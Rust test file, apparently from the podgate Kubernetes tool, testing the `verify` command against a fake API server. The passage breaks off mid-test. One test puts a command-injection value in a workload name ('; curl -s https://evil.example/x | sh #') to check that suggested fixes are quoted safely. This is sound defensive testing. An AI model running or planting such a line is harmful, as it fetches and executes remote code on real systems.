//! Tests `kubectl podgate verify` against a fake API server.

use super::server::{configuration, injected, shipped_policy};
use crate::api_server::{Answer, FakeApiServer, Request, error_status};
use base64::Engine;
use base64::prelude::BASE64_STANDARD;
use podgate::order::inject::{Options, inject};
use podgate::order::plan::{ImageCommand, KnownFacts};
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::fs;

/// Answer of the API server to the Pod of the dry run.
#[derive(Debug, Clone, Copy)]
enum DryRun {
    Injects,
    /// Another webhook changes the injected Pod.
    Changes(fn(&mut Value)),
    DoesNotInject,
    Rejects(u16, &'static str),
}

/// Change of an object: a field of its spec with a new value, or `None` to remove the object.
type Change = Option<(&'static str, Value)>;

/// Test cluster with podgate. By default, `verify` finds no error in the cluster.
#[derive(Debug, Clone)]
struct Cluster {
    pods: Vec<Value>,
    configuration: Option<Value>,
    secret: Option<Value>,
    /// Events with the reason `FailedCreate`, and the workloads in the namespace `shop`.
    events: Vec<Value>,
    workloads: Vec<Value>,
    dry_run: DryRun,
    has_policies: bool,
    /// Text of the webhook's file of images.
    file: Option<Value>,
    /// Text of the webhook's file of orders.
    orders: Option<&'static str>,
    /// Path and change of one policy or binding.
    policy_change: Option<(&'static str, Change)>,
    may_publish: bool,
    can_hold: bool,
    kubelet: &'static str,
    /// Prefixes of the paths that the user may not read.
    denied: &'static [&'static str],
}

const CA: &str = "-----BEGIN CERTIFICATE-----\nours\n-----END CERTIFICATE-----\n";

fn encoded(text: &str) -> String {
    BASE64_STANDARD.encode(text)
}

impl Default for Cluster {
    fn default() -> Cluster {
        let mut configuration = configuration();
        // The webhook keeps the CA of an earlier certificate in front of the current one.
        for webhook in configuration["webhooks"].as_array_mut().unwrap() {
            webhook["clientConfig"]["caBundle"] = encoded(&(CA.replace("ours", "old") + CA)).into();
        }
        let secret = json!({"metadata": {"name": "podgate-webhook-tls"}, "data": {"ca.crt": encoded(CA)}});
        Cluster {
            pods: vec![webhook_pod("True"), ordered_pod("Deployment", "ordered", true)],
            configuration: Some(configuration),
            secret: Some(secret),
            events: Vec::new(),
            workloads: Vec::new(),
            dry_run: DryRun::Injects,
            has_policies: true,
            file: None,
            orders: None,
            policy_change: None,
            may_publish: true,
            can_hold: true,
            kubelet: "v1.35.0",
            denied: &[],
        }
    }
}

fn webhook_pod(ready: &str) -> Value {
    json!({
        "metadata": {"name": "podgate-webhook-1", "namespace": "podgate",
            "labels": {"app.kubernetes.io/name": "podgate", "app.kubernetes.io/component": "webhook"}},
        "status": {"conditions": [{"type": "PodScheduled", "status": "True"}, {"type": "Ready", "status": ready}]},
    })
}

fn container(name: &str) -> Value {
    json!({"name": name, "image": "i", "command": ["c"]})
}

/// Returns a running Pod that declares an order. Its controller is an object `name` of this `kind`. If `kind` is
/// Deployment, the controller is a ReplicaSet of the Deployment `name`. Without a kind, the Pod has no controller.
fn ordered_pod(kind: &str, name: &str, has_sidecar: bool) -> Value {
    let mut pod = json!({
        "metadata": {"generateName": format!("{name}-"), "name": format!("{name}-x"), "namespace": "shop", "annotations": {"podgate.io/order": "a, b"}},
        "spec": {"serviceAccountName": "worker", "containers": [container("a"), container("b")]},
    });
    let owner = |kind: &str, name: &str| json!([{"kind": "Other", "name": "o"}, {"kind": kind, "name": name, "controller": true}]);
    match kind {
        "" => {}
        "Deployment" => {
            pod["metadata"]["labels"] = json!({"pod-template-hash": "6bcbfd8758"});
            pod["metadata"]["ownerReferences"] = owner("ReplicaSet", &format!("{name}-6bcbfd8758"));
        }
        kind => pod["metadata"]["ownerReferences"] = owner(kind, name),
    }
    let name = pod["metadata"]["name"].clone();
    let mut pod = if has_sidecar { injected(&pod) } else { pod };
    pod["metadata"]["name"] = name;
    pod
}

/// Returns a running Pod in which `b` waits for the exit of `a`, whose command is not known.
fn awaited_exit() -> Value {
    let mut pod = ordered_pod("Deployment", "ordered", false);
    pod["metadata"]["annotations"]["podgate.io/order"] = json!("a=Exited, b");
    pod["spec"]["containers"][0]["command"] = Value::Null;
    injected(&pod)
}

/// Returns a running Pod with an order in which `b` has no command. `known` has the commands that the webhook knew.
fn pod_of_image(image: &str, runs: &str, known: &[(&str, &str)]) -> Value {
    let mut pod = ordered_pod("Deployment", "web", false);
    pod["spec"]["containers"][1] = json!({"name": "b", "image": image});
    let command = |word: &str| ImageCommand { entrypoint: vec![word.to_owned()], ..ImageCommand::default() };
    let images = known.iter().map(|(name, word)| ((*name).to_owned(), command(word))).collect();
    let known = KnownFacts { images, ..KnownFacts::default() };
    let mut pod = inject(&pod, &Options::new("registry.example/podgate:1"), &known).unwrap().value;
    pod["status"] = json!({"containerStatuses": [{"name": "b", "imageID": runs, "containerID": "containerd://1"}]});
    pod
}

#[test]
fn images_without_an_entry_and_images_that_have_moved_are_listed() {
    let digest = |digit: &str| format!("sha256:{}", digit.repeat(64));
    let file = json!({"known:1": {"cmd": ["/b"], "digest": digest("1")}, "own:1": {"cmd": ["/b"]}});
    let gated: &[_] = &[("b", "/b")];
    let mut by_name = pod_of_image("new:2", "", &[]);
    by_name["metadata"]["annotations"]["mode.podgate.io/b"] = "hold".into();
    let mut cri_o = pod_of_image("known:1", &format!("known@{}", digest("2")), gated);
    cri_o["status"]["containerStatuses"][0]["containerID"] = "cri-o://1".into();
    let pods = [
        pod_of_image("new:1", "", &[]),
        pod_of_image("new:1", "", &[]),
        // The commands of these images came from `inject --resolve-images`, or need not be known.
        pod_of_image("inject:1", "", gated),
        by_name,
        pod_of_image("known:1", &format!("docker.io/library/known@{}", digest("2")), gated),
        pod_of_image("known:1", &format!("docker.io/library/known@{}", digest("1")), gated),
        // The node has an image without a repository, or the digest of one platform.
        pod_of_image("known:1", &digest("3"), gated),
        cri_o,
        pod_of_image(&format!("known:1@{}", digest("1")), &format!("known@{}", digest("1")), gated),
        pod_of_image("own:1", &format!("own@{}", digest("4")), gated),
    ];
    let pods = [vec![webhook_pod("True")], pods.to_vec()].concat();
    let (code, findings) = Cluster { pods: pods.clone(), file: Some(file), ..Cluster::default() }.problems();
    let (web, again) = ("Deployment/web in the namespace shop", "kubectl rollout restart deployment/web -n shop");
    let fix = format!("kubectl podgate resolve-images --apply -n podgate; then: {again}");
    let [moved, unknown] = [
        format!(
            "the image known:1 has moved: {web} runs sha256:222222222222, the webhook knows sha256:111111111111 (Pods: 1)"
        ),
        format!("the webhook does not know the command of new:1, so b is held: {web} (Pods: 2)"),
    ];
    let expected = [["warning", "image-moved", &moved, &fix], ["warning", "image-not-known", &unknown, &fix]];
    assert_eq!((code, findings), (0, expected.map(|line| line.map(str::to_owned)).to_vec()));

    // Without the ConfigMap, no image is known.
    let (_, findings) = Cluster { pods, ..Cluster::default() }.problems();
    assert_eq!(findings.iter().map(|[_, rule, ..]| rule.as_str()).collect::<Vec<_>>(), ["image-not-known"]);
}

const ORDERS: &str = "\
orders:
- podLabels: {app: web}
  annotations: {podgate.io/order: \"a, b\"}
- podLabels: {app: other}
  annotations: {podgate.io/order: \"a, b\"}
";

/// Returns a running Pod of the Deployment `web` without a key of podgate, whose first container has this name.
fn undeclared_pod(app: &str, first: &str) -> Value {
    let mut pod = ordered_pod("Deployment", "web", false);
    pod["metadata"]["annotations"] = json!({});
    pod["metadata"]["labels"]["app"] = app.into();
    pod["spec"]["containers"][0] = container(first);
    pod["spec"]["containers"][0]["readinessProbe"] = json!({"tcpSocket": {"port": 1}});
    pod
}

#[test]
fn pods_without_the_order_of_the_file_are_listed() {
    let in_namespace = |namespace: &str, mut pod: Value| {
        pod["metadata"]["namespace"] = namespace.into();
        pod
    };
    let mut assigned = undeclared_pod("other", "a");
    assigned["metadata"]["annotations"]["podgate.io/order"] = "a, b".into();
    let pods = vec![
        webhook_pod("True"),
        undeclared_pod("web", "a"),
        in_namespace("enabled", undeclared_pod("web", "a")),
        in_namespace("excluded", undeclared_pod("web", "a")),
        undeclared_pod("unrelated", "a"),
        injected(&assigned),
    ];
    let (code, findings) = Cluster { orders: Some(ORDERS), pods, may_publish: true, ..Cluster::default() }.problems();
    let line = |namespace: &str, label: &str| {
        let what = format!(
            "the Pods of Deployment/web in the namespace {namespace} started without the webhook's orders[0] (Pods: 1)"
        );
        let fix = format!("{label}kubectl rollout restart deployment/web -n {namespace}");
        ["warning".to_owned(), "order-not-assigned".to_owned(), what, fix]
    };
    let label = "kubectl label namespace shop podgate.io/inject=enabled; then: ";
    assert_eq!((code, findings), (0, vec![line("enabled", ""), line("shop", label)]));
}

impl Cluster {
    fn serve(self) -> FakeApiServer {
        FakeApiServer::new(move |request| self.answer(request))
    }

    fn answer(&self, request: &Request) -> Answer {
        let (path, query) = request.path.split_once('?').unwrap_or((&request.path, ""));
        if self.denied.iter().any(|start| path.starts_with(start)) {
            return error_status(403, "Forbidden", "you may not ask");
        }
        let found =
            |object: Option<Value>| object.map_or(error_status(404, "NotFound", "none"), |it| Answer::Json(200, it));
        let admission = "/apis/admissionregistration.k8s.io/v1/";
        match (request.method.as_str(), path.strip_prefix(admission).unwrap_or(path)) {
            ("GET", "/api/v1/pods") => {
                assert!(
                    query.contains("fieldSelector=status.phase%21%3DSucceeded%2Cstatus.phase%21%3DFailed"),
                    "{query}"
                );
                assert!(query.contains("limit="), "{query}");
                // Each page has one Pod.
                let at = query.split("continue=").nth(1).map_or(0, |at| at.parse::<usize>().unwrap());
                let next = if at + 1 < self.pods.len() { (at + 1).to_string() } else { String::new() };
                let page = self.pods.get(at).into_iter().collect::<Vec<_>>();
                Answer::Json(
                    200,
                    json!({"kind": "PodList", "apiVersion": "v1", "metadata": {"continue": next}, "items": page}),
                )
            }
            ("GET", "mutatingwebhookconfigurations") => Answer::Json(
                200,
                json!({"kind": "MutatingWebhookConfigurationList", "apiVersion": "admissionregistration.k8s.io/v1",
                       "metadata": {}, "items": Vec::from_iter(&self.configuration)}),
            ),
            ("GET", "/api/v1/namespaces/podgate/secrets/podgate-webhook-tls") => found(self.secret.clone()),
            ("GET", "/api/v1/namespaces/podgate/configmaps/podgate-images") => {
                found(self.file.as_ref().map(|file| json!({"metadata": {}, "data": {"images.json": file.to_string()}})))
            }
            ("GET", "/api/v1/namespaces/podgate/configmaps/podgate-orders") => {
                found(self.orders.map(|text| json!({"metadata": {}, "data": {"orders.yaml": text}})))
            }
            ("POST", "/api/v1/namespaces/shop/pods") => {
                assert!(query.contains("dryRun=All"), "a real Pod must never be created: {query}");
                let pod: Value = serde_json::from_str(&request.body).unwrap();
                let is_held = request.body.contains("fileKeyRef");
                match self.dry_run {
                    _ if is_held && self.can_hold => Answer::Json(201, pod),
                    _ if is_held => {
                        error_status(422, "Invalid", "env[0].valueFrom: Invalid value: must specify one of")
                    }
                    DryRun::Injects => Answer::Json(201, injected(&pod)),
                    DryRun::Changes(change) => {
                        let mut pod = injected(&pod);
                        change(&mut pod);
                        Answer::Json(201, pod)
                    }
                    DryRun::DoesNotInject => Answer::Json(201, pod),
                    DryRun::Rejects(code, message) => error_status(code, "Rejected", message),
                }
            }
            ("POST", "/apis/authorization.k8s.io/v1/namespaces/shop/localsubjectaccessreviews") => {
                assert!(request.body.contains("\"system:serviceaccount:shop:worker\""), "{request:?}");
                Answer::Json(201, json!({"status": {"allowed": self.may_publish}}))
            }
            ("GET", "/api/v1/nodes") => {
                let node = |name: &str, version: &str| json!({"metadata": {"name": name}, "status": {"nodeInfo": {"kubeletVersion": version}}});
                Answer::Json(200, json!({"items": [node("new", "v1.36.3"), node("other", self.kubelet)]}))
            }
            ("GET", "/api/v1/namespaces") => {
                assert!(
                    query.contains("labelSelector=podgate.io%2Finject&")
                        || query.ends_with("labelSelector=podgate.io%2Finject"),
                    "{query}"
                );
                let item = |name: &str, value: &str| json!({"metadata": {"name": name, "labels": {"podgate.io/inject": value}}});
                Answer::Json(200, json!({"items": [item("excluded", "disabled"), item("enabled", "enabled")]}))
            }
            ("GET", "/api/v1/events") => {
                assert!(query.contains("fieldSelector=reason%3DFailedCreate"), "{query}");
                Answer::Json(200, json!({"items": self.events}))
            }
            ("GET", path) if path.starts_with("/apis/apps/v1/") || path.starts_with("/apis/batch/v1/") => {
                let is_listed = |workload: &&Value| {
                    let [kind, name] =
                        [&workload["kind"], &workload["metadata"]["name"]].map(|it| it.as_str().unwrap());
                    let group = if kind == "Job" { "batch" } else { "apps" };
                    path == format!("/apis/{group}/v1/namespaces/shop/{}s", kind.to_lowercase())
                        && query.contains(&format!("fieldSelector=metadata.name%3D{name}&"))
                };
                Answer::Json(200, json!({"items": Vec::from_iter(self.workloads.iter().filter(is_listed))}))
            }
            ("GET", policy) if policy.starts_with("validatingadmission") => {
                let policy = policy.strip_prefix("validatingadmission").unwrap();
                let mut object = shipped_policy(policy).filter(|_| self.has_policies);
                if let Some((path, change)) = &self.policy_change
                    && *path == policy
                {
                    object = object.zip(change.clone()).map(|(mut object, (field, value))| {
                        object["spec"][field] = value;
                        object
                    });
                }
                found(object)
            }
            _ => panic!("{request:?}"),
        }
    }

    /// Runs `verify`. Returns the exit code, and level, rule, message and fix of each finding.
    fn verify(self) -> (i32, Vec<[String; 4]>) {
        let (code, out, err) = self.serve().run(&["verify", "-o", "json", "--request-timeout", "5s"]);
        assert_eq!(err, "", "{out}");
        let report: Value = serde_json::from_str(&out).unwrap();
        let text = |finding: &Value, field: &str| finding[field].as_str().unwrap().to_owned();
        let findings = report["findings"].as_array().unwrap().iter();
        (code, findings.map(|it| ["level", "rule", "message", "fix"].map(|field| text(it, field))).collect())
    }

    /// Runs `verify`. Returns the exit code, and the findings except the note on a successful dry run.
    fn problems(self) -> (i32, Vec<[String; 4]>) {
        let (code, mut findings) = self.verify();
        findings.retain(|[_, rule, ..]| rule != "injected");
        (code, findings)
    }
}

#[test]
fn working_installation_has_no_problem() {
    let (code, findings) = Cluster::default().verify();
    let [[level, rule, message, fix]] = &findings[..] else { panic!("{findings:?}") };
    assert_eq!((code, level.as_str(), rule.as_str(), fix.as_str()), (0, "note", "injected", ""));
    let start = "the webhook injects a Pod in the namespace shop: the dry run took ";
    assert!(message.starts_with(start) && message.ends_with(" ms"), "{message}");
    let (code, out, err) = Cluster::default().serve().run(&["verify"]);
    assert_eq!((code, err.as_str(), out.lines().count()), (0, "", 1), "{out}");
    assert!(out.starts_with(&format!("note: {start}")) && out.ends_with(" [injected]\n"), "{out}");
}

#[test]
fn pods_without_their_sidecar_are_listed_with_the_command_that_restarts_them() {
    let mut disabled = ordered_pod("Deployment", "disabled", false);
    disabled["metadata"]["labels"]["podgate.io/inject"] = "disabled".into();
    let mut terminating = ordered_pod("Deployment", "terminating", false);
    terminating["metadata"]["deletionTimestamp"] = "2026-11-21T14:00:00Z".into();
    let mut stop_only = ordered_pod("StatefulSet", "stop", false);
    stop_only["metadata"]["annotations"] = json!({"podgate.io/stop-order": "a, b"});
    let mut unordered = ordered_pod("Deployment", "unordered", false);
    unordered["metadata"]["annotations"] = json!({"podgate.io/timeout": "5m"});
    let mut excluded = ordered_pod("Deployment", "excluded", false);
    excluded["metadata"]["namespace"] = "excluded".into();
    let mut unneeded = ordered_pod("Deployment", "unneeded", false);
    unneeded["metadata"]["annotations"] = json!({"podgate.io/order": "a"});
    let mut copied = ordered_pod("Deployment", "copied", true);
    copied["spec"]["initContainers"] = json!([]);
    let again = "delete these Pods; if a Pod has no controller, create it again";
    let pods = [
        ordered_pod("Deployment", "web", false),
        ordered_pod("Deployment", "web", false),
        ordered_pod("DaemonSet", "agent", false),
        ordered_pod("ReplicaSet", "rollout-abc", false),
        ordered_pod("", "bare", false),
        ordered_pod("StatefulSet", "shop -n dev; curl -s https://evil.example/x | sh #", false),
        disabled,
        terminating,
        stop_only,
        unordered,
        excluded,
        unneeded,
        copied,
    ];
    let (code, findings) =
        Cluster { pods: [Cluster::default().pods, pods.to_vec()].concat(), ..Cluster::default() }.problems();
    assert_eq!(code, 1);
    // The name of an owner can be any text.
    let expected = [
        (
            "'StatefulSet/shop -n dev; curl -s https://evil.example/x | sh #'",
            1,
            "kubectl rollout restart 'statefulset/shop -n dev; curl -s https://evil.example/x | sh #' -n shop",
        ),
        ("DaemonSet/agent", 1, "kubectl rollout restart daemonset/agent -n shop"),
        ("Deployment/copied", 1, "kubectl rollout restart deployment/copied -n shop"),
        ("Deployment/web", 2, "kubectl rollout restart deployment/web -n shop"),
        ("Pod/bare-x", 1, again),
        ("ReplicaSet/rollout-abc", 1, again),
        ("StatefulSet/stop", 1, "kubectl rollout restart statefulset/stop -n shop"),
    ];
    let expected = expected.map(|(workload, count, fix)| {
        let what = "running Pods declare an order but have no sidecar";
        let message = format!("{what}: {workload} in the namespace shop (Pods: {count})");
        ["error", "pod-without-sidecar", &message, fix].map(str::to_owned)
    });
    assert_eq!(findings, expected);
}

/// Returns a Pod with an order without a sidecar.
fn lean_pod() -> Value {
    let container = |name: &str| json!({"name": name, "image": "x", "command": ["/x"], "readinessProbe": {"tcpSocket": {"port": 1}}});
    let mut api = container("api");
    api["readinessProbe"]["tcpSocket"]["port"] = 2.into();
    let annotations = json!({"podgate.io/order": "db, api", "podgate.io/sidecar": "none"});
    let pod = json!({"metadata": {"name": "lean", "namespace": "shop", "annotations": annotations},
        "spec": {"containers": [container("db"), api]}});
    injected(&pod)
}

/// Returns an event of a workload in the namespace `shop`, with its time and message.
fn event(kind: &str, name: &str, time: &str, message: &str) -> Value {
    json!({"metadata": {"namespace": "shop"}, "involvedObject": {"kind": kind, "name": name}, "reason": "FailedCreate",
        "message": message, "lastTimestamp": format!("2026-11-28T{time}:00Z")})
}

/// Returns a workload without Pods, as the API server lists it. With `owner`, a controller of that kind has created it.
fn without_pods(kind: &str, name: &str, owner: &str) -> Value {
    let mut workload = json!({"kind": kind, "metadata": {"name": name, "namespace": "shop"},
        "spec": {"replicas": 2}, "status": {"replicas": 0}});
    if kind == "DaemonSet" {
        workload["status"] = json!({"desiredNumberScheduled": 3, "currentNumberScheduled": 0});
    }
    if !owner.is_empty() {
        let name = name.rsplit_once('-').unwrap().0;
        workload["metadata"]["ownerReferences"] = json!([{"kind": owner, "name": name, "controller": true}]);
    }
    workload
}

const DENIED: &str = "admission webhook \"pods.podgate.io\" denied the request: metadata.annotations[\"podgate.io/order\"]: \
                      unknown condition; write a=Ready\nsecond error";
const UNKNOWN: &str = "pods \"p-x\" is forbidden: ValidatingAdmissionPolicy 'podgate-unknown-containers' with binding \
                       'podgate-unknown-containers' denied request: podgate - there is no container x";

#[test]
fn workloads_whose_pods_are_denied_are_listed() {
    let mut scaled = without_pods("ReplicaSet", "corrected-1", "Deployment");
    scaled["spec"]["replicas"] = json!(0);
    let mut ended = without_pods("Job", "ended", "");
    ended["status"]["conditions"] = json!([{"type": "Failed", "status": "True"}]);
    let mut running = without_pods("DaemonSet", "running", "");
    running["status"]["currentNumberScheduled"] = json!(3);
    // The rollout of the corrected Deployment has not finished.
    let mut old = without_pods("ReplicaSet", "old-1", "Deployment");
    old["spec"]["template"] = json!({"metadata": {"annotations": {"podgate.io/order": "a, x"}}});
    let workloads = vec![
        without_pods("ReplicaSet", "shop-6b", "Deployment"),
        without_pods("Deployment", "shop", ""),
        old,
        without_pods("Deployment", "old", ""),
        without_pods("ReplicaSet", "own-1", "Rollout"),
        without_pods("StatefulSet", "db", ""),
        without_pods("DaemonSet", "agent", ""),
        without_pods("Job", "batch-1", "CronJob"),
        without_pods("Job", "batch-2", "CronJob"),
        without_pods("StatefulSet", "quota", ""),
        scaled,
        ended,
        running,
    ];
    let denied = format!("Error creating: {DENIED}");
    let unknown = format!("create Pod db-0 in StatefulSet db failed error: {UNKNOWN}");
    let events = vec![
        event("ReplicaSet", "shop-6b", "10:05", &denied),
        event("ReplicaSet", "shop-6b", "10:01", &format!("Error creating: {UNKNOWN}")),
        event("ReplicaSet", "old-1", "10:00", &denied),
        event("ReplicaSet", "own-1", "10:00", &denied),
        event("StatefulSet", "db", "10:00", &unknown),
        event("DaemonSet", "agent", "10:00", &denied),
        event("Job", "batch-1", "10:00", &denied),
        event("Job", "batch-2", "10:00", &denied),
        event("StatefulSet", "quota", "10:00", "create Pod quota-0 failed: exceeded quota: small"),
        event("ReplicaSet", "corrected-1", "10:00", &denied),
        event("Job", "ended", "10:00", &denied),
        event("DaemonSet", "running", "10:00", &denied),
        event("ReplicaSet", "deleted", "10:00", &denied),
        event("ReplicaSet", "a,b=../x", "10:00", &denied),
        event("Secret", "s", "10:00", &denied),
    ];
    let (code, findings) = Cluster { events, workloads, ..Cluster::default() }.problems();
    assert_eq!(code, 1);
    let condition = "metadata.annotations[\"podgate.io/order\"]: unknown condition; write a=Ready";
    let expected = [
        ("DaemonSet/agent", condition),
        ("CronJob/batch", condition),
        ("ReplicaSet/own-1", condition),
        ("Deployment/shop", condition),
        ("StatefulSet/db", "there is no container x"),
    ];
    let expected = expected.map(|(workload, reason)| {
        let message = format!("podgate denies the Pods of {workload} in the namespace shop: {reason}");
        let (kind, name) = workload.split_once('/').unwrap();
        let get = format!("kubectl get {}/{name} -n shop -o yaml", kind.to_lowercase());
        let fix = format!("correct the Pod template; to see all problems, run: {get} | kubectl podgate check -");
        ["error", "pods-denied", &message, &fix].map(str::to_owned)
    });
    assert_eq!(findings, expected);
}

/// Returns broken clusters, each with its findings: level, rule and a part of the message.
fn broken_clusters() -> Vec<(Cluster, Vec<[&'static str; 3]>)> {
    let ok = Cluster::default;
    let mut foreign = ok().configuration.unwrap();
    foreign["webhooks"][1]["clientConfig"]["caBundle"] = encoded("other").into();
    let untrusted = ["error", "webhook-untrusted", "caBundle lacks the CA of the webhook's certificate"];
    let not_ready = ["error", "webhook-not-ready", "the webhook has no ready replica"];
    vec![
        (
            Cluster { pods: vec![ordered_pod("", "a", false)], ..ok() },
            vec![["error", "pod-without-sidecar", "Pod/a-x"]],
        ),
        (Cluster { pods: vec![webhook_pod("False")], ..ok() }, vec![]),
        (
            Cluster { pods: vec![webhook_pod("False")], dry_run: DryRun::DoesNotInject, ..ok() },
            vec![not_ready, ["error", "not-injected", "does not inject a Pod"]],
        ),
        (
            Cluster { dry_run: DryRun::Rejects(403, "pods \"podgate-verify-x\" is forbidden: exceeded quota"), ..ok() },
            vec![["warning", "pod-rejected", "exceeded quota"]],
        ),
        (
            Cluster { dry_run: DryRun::Rejects(504, "request did not complete"), ..ok() },
            vec![["note", "dry-run-skipped", "request did not complete"]],
        ),
        (
            Cluster { configuration: None, ..ok() },
            vec![["error", "missing-webhook", "the cluster does not have podgate's webhook"]],
        ),
        (Cluster { configuration: Some(foreign), ..ok() }, vec![untrusted]),
        (Cluster { configuration: Some(configuration()), ..ok() }, vec![untrusted]),
        (Cluster { secret: Some(json!({"metadata": {}})), ..ok() }, vec![untrusted]),
        (Cluster { secret: None, ..ok() }, vec![]),
        (
            Cluster { dry_run: DryRun::DoesNotInject, ..ok() },
            vec![["error", "not-injected", "does not inject a Pod with an order in the namespace shop"]],
        ),
        (
            Cluster { dry_run: DryRun::Rejects(500, "failed calling webhook \"pods.podgate.io\""), ..ok() },
            vec![["error", "pod-rejected", "failed calling webhook"]],
        ),
        (
            Cluster { dry_run: DryRun::Rejects(403, "cannot create resource \"pods\""), ..ok() },
            vec![["note", "dry-run-skipped", "cannot create a Pod in a dry run"]],
        ),
        (
            Cluster {
                dry_run: DryRun::Changes(|pod| pod["spec"]["containers"][1]["command"] = json!(["/wrap"])),
                ..ok()
            },
            vec![[
                "error",
                "injected-changed",
                "another webhook changes podgate's parts: podgate's gate in the command of second is missing or was changed",
            ]],
        ),
        (
            Cluster { dry_run: DryRun::Changes(|pod| pod["spec"]["initContainers"] = json!([])), ..ok() },
            vec![[
                "error",
                "injected-changed",
                "podgate's parts: the Pod has the annotation of an injection, but podgate's",
            ]],
        ),
        (
            Cluster {
                dry_run: DryRun::Changes(|pod| pod["spec"]["initContainers"][0]["restartPolicy"] = Value::Null),
                ..ok()
            },
            vec![[
                "error",
                "injected-changed",
                "podgate's parts: podgate's sidecar has no restartPolicy: Always, so the Pod",
            ]],
        ),
        (
            Cluster {
                dry_run: DryRun::Changes(|pod| {
                    let proxy = json!({"name": "istio-proxy", "image": "i", "restartPolicy": "Always"});
                    pod["spec"]["initContainers"].as_array_mut().unwrap().insert(0, proxy);
                }),
                ..ok()
            },
            vec![["warning", "sidecar-not-first", "podgate's parts: istio-proxy comes before podgate's sidecar"]],
        ),
        (
            Cluster { dry_run: DryRun::Rejects(404, "namespaces \"shop\" not found"), ..ok() },
            vec![["error", "dry-run-skipped", "the namespace shop does not exist"]],
        ),
        (
            Cluster { has_policies: false, ..ok() },
            vec![
                ["error", "missing-policy", "ValidatingAdmissionPolicy podgate-unknown-containers: "],
                [
                    "error",
                    "missing-policy",
                    "ValidatingAdmissionPolicy podgate-own-pod: a sidecar with podgate's role may",
                ],
            ],
        ),
        (
            Cluster { may_publish: false, ..ok() },
            vec![[
                "warning",
                "missing-rbac",
                "the service account worker in shop lacks permissions for Pods (watch, patch)",
            ]],
        ),
        (
            Cluster { may_publish: false, pods: vec![webhook_pod("True"), awaited_exit()], ..ok() },
            vec![[
                "error",
                "missing-rbac",
                "lacks permissions for Pods (watch, patch), so podgate never sees a=Exited of Deployment/ordered in",
            ]],
        ),
        (
            Cluster { can_hold: false, kubelet: "v1.34.9-gke.1", ..ok() },
            vec![[
                "warning",
                "hold-not-possible",
                "hold mode is not possible: the API server does not support fileKeyRef",
            ]],
        ),
        (
            Cluster { kubelet: "v1.34.9-gke.1", ..ok() },
            vec![[
                "warning",
                "old-kubelet",
                "hold mode is not possible on nodes with a kubelet older than 1.35: other (nodes: 1)",
            ]],
        ),
        (
            Cluster { pods: vec![lean_pod()], kubelet: "v1.34.9-gke.1", ..ok() },
            vec![
                ["warning", "old-kubelet", "hold mode is not possible"],
                [
                    "warning",
                    "no-image-volumes",
                    "Pods without a sidecar cannot start on nodes without image volumes: other (nodes: 1)",
                ],
            ],
        ),
        (
            Cluster { pods: vec![webhook_pod("True"), pod_of_image("new:1", "", &[])], ..ok() },
            vec![[
                "warning",
                "image-not-known",
                "the webhook does not know the command of new:1, so b is held: Deployment/web",
            ]],
        ),
        (
            Cluster {
                pods: vec![
                    webhook_pod("True"),
                    pod_of_image("b:1", &format!("b@sha256:{}", "2".repeat(64)), &[("b", "/b")]),
                ],
                file: Some(json!({"b:1": {"digest": format!("sha256:{}", "1".repeat(64))}})),
                ..ok()
            },
            vec![[
                "warning",
                "image-moved",
                "the image b:1 has moved: Deployment/web in the namespace shop runs sha256:222222222222, the",
            ]],
        ),
        (
            Cluster { denied: &["/api/v1/namespaces/podgate/configmaps"], ..ok() },
            vec![
                ["note", "not-checked", "cannot check the webhook's file of images: you may not ask"],
                ["note", "not-checked", "cannot check the webhook's file of orders: you may not ask"],
            ],
        ),
        (
            Cluster { orders: Some("orders:\n- namespace: a\n"), ..ok() },
            vec![[
                "error",
                "not-checked",
                "cannot check the webhook's file of orders: the ConfigMap podgate/podgate-orders",
            ]],
        ),
        (
            Cluster { orders: Some(ORDERS), pods: vec![webhook_pod("True"), undeclared_pod("web", "a")], ..ok() },
            vec![
                [
                    "warning",
                    "order-not-assigned",
                    "the Pods of Deployment/web in the namespace shop started without the webhook's orders[0] (Pods: 1)",
                ],
                ["warning", "order-unused", "the webhook's orders[1] matches no running Pod"],
            ],
        ),
        (
            Cluster { orders: Some(ORDERS), pods: vec![webhook_pod("True"), undeclared_pod("web", "c")], ..ok() },
            vec![
                [
                    "warning",
                    "order-does-not-fit",
                    "the webhook's orders[0] does not fit Deployment/web in the namespace shop: there is no container a",
                ],
                ["warning", "order-unused", "the webhook's orders[1] matches no running Pod"],
            ],
        ),
        (
            Cluster { denied: &["/api/v1/nodes"], ..ok() },
            vec![["note", "not-checked", "cannot check hold mode: you may not ask"]],
        ),
        (
            Cluster {
                events: vec![event("StatefulSet", "db", "10:00", DENIED)],
                workloads: vec![without_pods("StatefulSet", "db", "")],
                ..ok()
            },
            vec![["error", "pods-denied", "podgate denies the Pods of StatefulSet/db in the namespace shop: metadata"]],
        ),
        (
            Cluster { denied: &["/api/v1/events"], ..ok() },
            vec![["note", "not-checked", "cannot check the workloads whose Pods are denied: you may not ask"]],
        ),
        (
            Cluster { denied: &["/api/v1/pods"], ..ok() },
            vec![["note", "not-checked", "cannot check the Pods of all namespaces: you"]],
        ),
        (
            Cluster { denied: &["/api/v1/namespaces/podgate/secrets"], ..ok() },
            vec![["note", "not-checked", "cannot check the webhook's certificate: you may not ask"]],
        ),
        (
            Cluster { denied: &["/apis/"], ..ok() },
            vec![
                ["note", "not-checked", "cannot check podgate's webhook: you may not ask"],
                ["note", "not-checked", "cannot check the policy podgate-own-pod: you may not ask"],
                ["note", "not-checked", "cannot check the permissions of service accounts: you may not ask"],
            ],
        ),
    ]
}

#[test]
fn problems_are_found() {
    for (cluster, expected) in broken_clusters() {
        let (code, findings) = cluster.clone().problems();
        assert_eq!(findings.len(), expected.len(), "{cluster:?}: {findings:?}");
        for ([level, rule, message, _], [expected_level, expected_rule, part]) in findings.iter().zip(&expected) {
            assert_eq!((level.as_str(), rule.as_str()), (*expected_level, *expected_rule), "{findings:?}");
            assert!(message.contains(part), "{message}");
        }
        let has_errors = expected.iter().any(|[level, ..]| *level == "error");
        assert_eq!(code, i32::from(has_errors), "{findings:?}");
        assert!(findings.iter().all(|[level, _, _, fix]| (level == "note") == fix.is_empty()), "{findings:?}");
    }
    // `kubectl podgate install` binds the role to the account `default` only.
    let (_, findings) = Cluster { may_publish: false, ..Cluster::default() }.problems();
    let bind = "kubectl create rolebinding podgate-more-worker -n shop --clusterrole podgate-sidecar --serviceaccount shop:worker";
    assert!(findings[0][3].contains(bind), "{findings:?}");
}

/// Tests changes by other webhooks that do not break the order.
#[test]
fn harmless_changes_of_the_injected_pod_are_not_reported() {
    let changes: [fn(&mut Value); 3] = [
